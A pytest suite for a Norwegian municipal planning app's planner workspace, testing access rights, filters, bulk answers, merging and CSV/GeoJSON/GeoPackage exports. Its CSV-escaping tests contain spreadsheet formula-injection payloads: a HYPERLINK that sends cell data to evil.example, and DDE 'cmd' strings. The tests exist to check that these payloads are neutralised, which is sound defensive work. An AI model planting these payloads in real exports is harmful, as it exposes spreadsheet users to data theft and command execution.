"""The planner's workspace: rights, filters, bulk answers, merging, exports."""

import csv
import io
import json

import pytest
from django.contrib.gis.gdal import DataSource
from django.db import connection
from django.test.utils import CaptureQueriesContext

from accounts.models import Role
from priorities import rollups, services
from priorities.models import AnswerTemplate, Export, Priority, PriorityStatusChange, Support
from tests.priorities.factories import MISVAER, UserFactory, copies_of, make_priority, staff

pytestmark = pytest.mark.django_db


@pytest.fixture
def planner(client):
    user = staff(Role.PLANNER)
    client.force_login(user)
    return user


def test_residents_cannot_open_the_workspace_or_export(client):
    client.force_login(UserFactory())

    assert client.get("/planner/").status_code == 403
    assert client.get("/planner/export/", {"format": "csv"}).status_code == 403
    assert not Export.objects.exists()


def test_a_planner_cannot_act_in_another_municipality(client, planner):
    from areas.models import Municipality

    Municipality.objects.create(code="0301", name="Oslo")

    assert client.get("/planner/", {"municipality": "0301"}).status_code == 403


def test_filter_by_school_district_and_category(client, planner):
    from areas.models import Area

    make_priority(title="Sentrum trafikk")
    make_priority(title="Sentrum lek", category="lek-og-friluft")
    make_priority(title="Misvær trafikk", at=MISVAER)
    district = Area.objects.get(code="1804-SK01")

    page = client.get(
        "/planner/", {"area": district.pk, "category": "trafikksikkerhet"}
    ).content.decode()

    assert "Sentrum trafikk" in page
    assert "Sentrum lek" not in page and "Misvær trafikk" not in page


def test_text_search_uses_norwegian_stemming(client, planner):
    make_priority(title="Skolene trenger fortau")
    make_priority(title="Bedre gatelys", text="Det er mørkt langs veien om vinteren.")

    page = client.get("/planner/", {"q": "skole"}).content.decode()

    assert "Skolene trenger fortau" in page
    assert "Bedre gatelys" not in page


@pytest.mark.parametrize(
    "params",
    [
        {"area": "999999999"},
        {"since": "2026-05-01", "until": "2026-04-01"},
        {"q": "x" * 10_000},
        {"min_support": "-1"},
        {"status": "bogus"},
        {"case": "not-a-case"},
    ],
)
def test_malformed_filters_are_a_400_and_change_nothing(client, planner, params):
    make_priority()

    response = client.get("/planner/", params)

    assert response.status_code == 400
    assert 'role="alert"' in response.content.decode()


def test_keyset_pages_cover_everything_once(client, planner):
    for n in range(55):
        make_priority(title=f"Prioritet nummer {n}")

    first = client.get("/planner/")
    second = client.get("/planner/" + first.context["next_url"])

    titles = [p.title for p in first.context["rows"]] + [p.title for p in second.context["rows"]]
    assert len(titles) == 55 == len(set(titles))
    assert second.context["next_url"] is None
    assert client.get("/planner/", {"after": "rubbish"}).status_code == 400


def test_answer_three_at_once(client, planner):
    author = UserFactory()
    chosen = [make_priority(author, title=f"Valgt {n}") for n in range(3)]
    other = make_priority(title="Ikke valgt")

    response = client.post(
        "/planner/answer/",
        {
            "ids": [p.pk for p in chosen],
            "status": "under_consideration",
            "public_text": "Vi ser på dette.",
        },
    )

    assert response.status_code == 302
    assert PriorityStatusChange.objects.filter(record__in=chosen).count() == 3
    assert not PriorityStatusChange.objects.filter(record=other).exists()
    from procrastinate.contrib.django.models import ProcrastinateJob

    assert ProcrastinateJob.objects.filter(task_name__endswith="notify_status_changes").count() == 1


def _answer_queries(client, priorities) -> int:
    """The SQL statements of the planner answering these priorities at once."""
    with CaptureQueriesContext(connection) as queries:
        response = client.post(
            "/planner/answer/",
            {
                "ids": [p.pk for p in priorities],
                "status": "decided",
                "public_text": "Vedtatt i kommunestyret.",
            },
        )
    assert response.status_code == 302
    return len(queries)


def test_answering_500_at_once_takes_the_same_queries_as_10(client, planner):
    """One INSERT of the status changes and one UPDATE of the priorities, so the rollup
    triggers run once per statement, not once per priority."""
    author = UserFactory()
    few = [seed := make_priority(author, title="Få svar"), *copies_of(seed, 9)]
    many = [seed := make_priority(author, title="Mange svar"), *copies_of(seed, 499)]

    assert _answer_queries(client, few) == _answer_queries(client, many)
    assert (
        PriorityStatusChange.objects.filter(record__in=few + many, status="decided").count() == 510
    )
    assert (
        Priority.all_objects.filter(status="decided", first_answered_at__isnull=False).count()
        == 510
    )
    assert rollups.drift() == []


def test_answer_from_a_template(client, planner):
    from areas.models import Municipality

    template = AnswerTemplate.objects.create(
        municipality=Municipality.objects.get(code="1804"),
        title="Sendt videre",
        status="under_consideration",
        text="Innspillet er sendt til plan- og byggesaksavdelingen.",
    )
    priority = make_priority()

    client.post(
        "/planner/answer/",
        {"ids": [priority.pk], "status": "under_consideration", "template": template.pk},
    )

    assert PriorityStatusChange.objects.get().public_text == template.text


def test_answering_other_municipalities_input_is_refused(client):
    from areas.models import Municipality
    from tests.accounts.factories import RoleGrantFactory

    oslo_planner = UserFactory()
    RoleGrantFactory(
        user=oslo_planner,
        role=Role.PLANNER,
        municipality=Municipality.objects.create(code="0301", name="Oslo"),
    )
    client.force_login(oslo_planner)
    priority = make_priority()

    client.post(
        "/planner/answer/", {"ids": [priority.pk], "status": "decided", "public_text": "Vedtatt."}
    )

    assert not PriorityStatusChange.objects.exists()


def test_merge_carries_supports_over_without_double_counting(client, planner):
    target = make_priority(title="Fortau langs skoleveien")
    duplicate = make_priority(title="Fortau ved skolen")
    both, only_duplicate = UserFactory(), UserFactory()
    for user in (both, only_duplicate):
        services.support_add(priority=duplicate, user=user)
    services.support_add(priority=target, user=both)

    client.post("/planner/merge/", {"ids": [target.pk, duplicate.pk], "target": target.pk})

    target.refresh_from_db()
    duplicate.refresh_from_db()
    supporters = set(
        Support.objects.filter(priority=target, withdrawn_at=None).values_list("user_id", flat=True)
    )
    assert supporters == {both.pk, only_duplicate.pk, duplicate.author_id}
    assert target.support_count == 3
    assert duplicate.merged_into == target
    assert not Priority.public_objects.filter(pk=duplicate.pk).exists()
    assert target.reference in PriorityStatusChange.objects.get(record=duplicate).public_text


def test_a_merged_priority_says_where_it_went_and_keeps_its_history(client, planner):
    """The merged-away priority is "merged", not "under consideration" nor "hidden by a
    moderator"; its page (which the e-mail about the merge links to) names and links the
    one it went into, to anyone, and keeps what happened to it."""
    target = make_priority(title="Fortau langs skoleveien")
    duplicate = make_priority(title="Fortau ved skolen")
    services.input_set_status(
        records=[duplicate],
        status="under_consideration",
        public_text="Vi ser på det.",
        actor=planner,
    )
    client.post("/planner/merge/", {"ids": [target.pk, duplicate.pk], "target": target.pk})
    duplicate.refresh_from_db()
    assert duplicate.status == "merged"
    target.refresh_from_db()
    assert target.status == "received", "the target keeps its own status"

    client.logout()
    page = client.get(f"/priorities/{duplicate.pk}/").content.decode()
    assert (
        f'<a href="/priorities/{target.pk}/">{target.reference}: Fortau langs skoleveien</a>'
        in page
    )
    assert "Slått sammen med" in page and "slått sammen med en annen" in page
    assert "moderator" not in page
    assert "Vi ser på det." in page, "the history is kept"
    assert page.count("status-merged") == 2, "the badge and the merge in the history"
    # Not in the lists, and nobody can support it or answer it.
    assert duplicate.pk not in [p.pk for p in Priority.public_objects.all()]
    assert "Støtt dette" not in page
    client.force_login(planner)
    assert 'name="public_text"' not in client.get(f"/priorities/{duplicate.pk}/").content.decode()
    moderation = client.get("/moderation/")
    assert moderation.status_code in (200, 403)


def test_csv_export_opens_in_excel_with_norwegian_letters(client, planner):
    make_priority(title="Gangvei ved Bodøsjøen", text="Æ, ø og å må komme riktig ut i Excel.")

    response = client.get("/planner/export/", {"format": "csv", "category": "trafikksikkerhet"})

    assert response.status_code == 200
    assert "-trafikksikkerhet-" in response["Content-Disposition"]
    raw = b"".join(response.streaming_content)
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert rows[0]["title"] == "Gangvei ved Bodøsjøen"
    assert "author_email" not in rows[0]
    log = Export.objects.get()
    assert (log.format, log.include_personal_data, log.rows) == ("csv", False, 1)


def test_geojson_export_is_rfc7946_with_filter_and_attribution(client, planner):
    make_priority(at=MISVAER)

    response = client.get("/planner/export/", {"format": "geojson"})

    body = json.loads(b"".join(response.streaming_content))
    (feature,) = body["features"]
    assert feature["geometry"]["coordinates"] == [15.0, 67.117]
    assert "Kartverket" in body["metadata"]["attribution"]
    assert "municipality=1804" in body["metadata"]["filter"]
    assert "author_email" not in feature["properties"]


def test_geopackage_export_through_gdal(client, planner, tmp_path):
    make_priority()
    make_priority(at=MISVAER)

    response = client.get("/planner/export/", {"format": "gpkg"})

    path = tmp_path / "export.gpkg"
    path.write_bytes(b"".join(response.streaming_content))
    layer = DataSource(str(path))[0]
    assert layer.name == "prioriteter"
    assert len(layer) == 2
    assert "reference" in layer.fields


def test_personal_data_only_for_administrators_who_tick_it(client, planner):
    make_priority(UserFactory(email="kontakt@example.no"))

    assert client.get("/planner/export/", {"format": "csv", "personal": "1"}).status_code == 403
    client.force_login(staff(Role.ADMINISTRATOR))
    response = client.get("/planner/export/", {"format": "csv", "personal": "1"})

    assert "kontakt@example.no" in b"".join(response.streaming_content).decode("utf-8-sig")
    assert Export.objects.get().include_personal_data is True


FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Klikk")'
FORMULA_TEXT = "@SUM(1+1)*cmd|' /C calc'!A0"


def _csv_rows(response) -> list[dict]:
    raw = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(raw, newline=""), delimiter=";"))


def test_csv_export_writes_formulas_as_text(client, planner):
    """A resident's title and text that a spreadsheet would run as formulas come out with a
    leading single quote (OWASP), everything else as it was; coordinates stay numbers."""
    make_priority(title=FORMULA_TITLE, text=FORMULA_TEXT)
    make_priority(title="Gangvei - ny", text="-1 parkeringsplass, +1 sykkelstativ")

    rows = _csv_rows(client.get("/planner/export/", {"format": "csv"}))

    by_title = {row["title"]: row for row in rows}
    formula = by_title["'" + FORMULA_TITLE]
    assert formula["text"] == "'" + FORMULA_TEXT
    assert (formula["lon"], formula["lat"]) == ("14.385", "67.283")
    assert by_title["Gangvei - ny"]["text"] == "'-1 parkeringsplass, +1 sykkelstativ"


def test_administrators_personal_export_writes_formulas_as_text(client):
    """The export with names and e-mail addresses (an administrator's) is made safe too."""
    author = UserFactory(first_name="-2+3+cmd|' /C calc'!A0", last_name="Nordmann")
    make_priority(author, title=FORMULA_TITLE, text="+47 ringer for 1+1")
    client.force_login(staff(Role.ADMINISTRATOR))

    (row,) = _csv_rows(client.get("/planner/export/", {"format": "csv", "personal": "1"}))

    assert row["title"] == "'" + FORMULA_TITLE
    assert row["text"] == "'+47 ringer for 1+1"
    assert row["author_name"] == "'-2+3+cmd|' /C calc'!A0 Nordmann"
    assert row["author_email"] == author.email


def test_bad_export_format_is_a_400(client, planner):
    assert client.get("/planner/export/", {"format": "xlsx"}).status_code == 400
    assert not Export.objects.exists()


def test_answer_all_that_match_the_filter_not_only_the_chosen(client, planner, monkeypatch):
    """ "Answer all N that match the filter": the same filter as the page, beyond the page's
    rows, nothing outside it; a filter that is not valid, or too many, writes nothing."""
    matching = [make_priority(title=f"Trafikk {n}") for n in range(3)]
    other = make_priority(title="Lekeplass", category="lek-og-friluft")
    answer = {"status": "under_consideration", "public_text": "Vi ser på trafikken i sentrum."}

    monkeypatch.setattr("priorities.planner.BULK_MAX", 2)
    client.post(
        "/planner/answer/", {**answer, "all_matching": "1", "query": "category=trafikksikkerhet"}
    )
    assert not PriorityStatusChange.objects.exists(), "more than BULK_MAX: refused"

    monkeypatch.setattr("priorities.planner.BULK_MAX", 5000)
    response = client.post(
        "/planner/answer/", {**answer, "all_matching": "1", "query": "category=nope&since=x"}
    )
    assert response.status_code == 302
    assert not PriorityStatusChange.objects.exists(), "a filter that is not valid: nothing"

    client.post(
        "/planner/answer/", {**answer, "all_matching": "1", "query": "category=trafikksikkerhet"}
    )
    answered = set(PriorityStatusChange.objects.values_list("record_id", flat=True))
    assert answered == {p.pk for p in matching}
    assert other.pk not in answered


def test_filter_errors_name_each_field_by_its_label_in_the_planners_language(client, planner):
    client.cookies["django_language"] = "nn"

    response = client.get(
        "/planner/", {"since": "ikkje-ein-dato", "min_support": "-1", "case": "not-a-case"}
    )

    page = response.content.decode()
    assert response.status_code == 400
    errors = page[page.index('role="alert"') :]
    errors = errors[: errors.index("</div>")]
    assert "<li>Frå dato: " in errors
    assert "<li>Minst så mange støttarar: " in errors
    assert "<li>Saksnummer: " in errors
    for name in ("since:", "min_support:", "case:"):
        assert name not in errors


def test_an_export_is_named_plainly_in_ascii_after_the_municipality_and_filter(client, planner):
    from django.utils import timezone

    make_priority()
    today = timezone.localdate().isoformat()

    response = client.get(
        "/planner/export/",
        {"format": "csv", "category": "trafikksikkerhet", "status": "received"},
    )

    disposition = response["Content-Disposition"]
    assert disposition == (
        f'attachment; filename="prioriteter-bodo-trafikksikkerhet-mottatt-{today}.csv"'
    )
    assert disposition.isascii()


def test_exported_status_and_category_are_named_in_the_planners_language(client, planner):
    priority = make_priority(title="Fortau")
    services.input_set_status(
        records=[priority],
        status="under_consideration",
        public_text="Vi ser på det.",
        actor=planner,
    )
    client.cookies["django_language"] = "nn"

    response = client.get("/planner/export/", {"format": "csv"})

    assert response["Content-Disposition"].startswith('attachment; filename="prioritetar-bodo-')
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    (row,) = csv.DictReader(io.StringIO(text), delimiter=";")
    assert (row["status"], row["status_code"]) == ("under vurdering", "under_consideration")
    assert (row["category"], row["category_code"]) == ("Trafikktryggleik", "trafikksikkerhet")
